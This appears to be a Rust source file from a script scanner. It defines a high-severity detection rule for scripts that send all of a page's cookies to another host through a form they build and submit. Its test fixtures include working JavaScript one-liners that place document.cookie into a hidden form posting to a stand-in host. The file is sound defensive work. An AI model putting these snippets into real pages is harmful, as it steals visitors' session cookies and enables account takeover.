//! `cookies-in-hidden-form`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "cookies-in-hidden-form",
    description: "The script sends all cookies of this page to another host in a form it fills in.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::AllCookies]), one(&[Atom::FormTarget])],
    within: 90,
    only_if: Some(fills),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"var f=document.createElement('form');f.method='POST';f.action='http://c.example/g';var i=document.createElement('input');i.name='c';i.value=document.cookie;f.appendChild(i);document.body.appendChild(f);f.submit()"#,
            r#"const i=document.createElement('input');i.setAttribute('value',document.cookie);const f=document.createElement('form');f.action='https://c.example/c';f.append(i);document.body.append(f);f.submit()"#,
        ],
        without: &[
            r#"var f=document.createElement('form');f.method='POST';f.action='/g';var i=document.createElement('input');i.name='c';i.value=document.cookie;f.appendChild(i);f.submit()"#,
            r#"var f=document.createElement('form');f.action='http://c.example/g';store.value=document.cookie.split(';')[0];f.submit()"#,
        ],
    },
};

fn fills(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 90);
    let filled = near.words(&["cookie"]).any(|at| {
        near.before(at, 1) == "document"
            && !near.is(at + 1, b'[')
            && near.kind(at + 1) != Some(Kind::Member)
            && (near.is(at.wrapping_sub(2), b'=') && near.before(at, 3) == "value"
                || near.is(at.wrapping_sub(2), b',') && near.before(at, 3) == "value")
    });
    let abroad = near.values_put("action").any(|value| near.is_address(value));
    filled && abroad && near.words(&["submit"]).any(|at| near.is(at + 1, b'('))
}
